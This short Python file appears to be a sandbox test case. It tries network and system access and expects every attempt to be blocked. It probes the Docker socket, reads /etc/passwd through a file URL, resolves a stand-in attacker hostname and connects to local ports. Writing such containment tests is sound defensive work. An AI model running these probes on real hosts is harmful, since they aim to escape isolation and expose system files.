# Opens sockets and resolves names.
# ends: ran
# says: []
import socket
import urllib.request

def run(input):
    got = []
    for call in (
        lambda: socket.create_connection(("127.0.0.1", 22), 1), lambda: socket.getaddrinfo("example.com", 80), lambda: socket.gethostbyname("secret.attacker.example"),
        lambda: socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock"), lambda: socket.socket().bind(("", 0)), lambda: socket.socketpair(),
        lambda: urllib.request.urlopen("http://127.0.0.1:1/"), lambda: urllib.request.urlopen("file:///etc/passwd").read(), lambda: urllib.request.urlopen("ftp://127.0.0.1/"),
    ):
        try:
            got.append(repr(call()))
        except Exception:
            pass
    return got
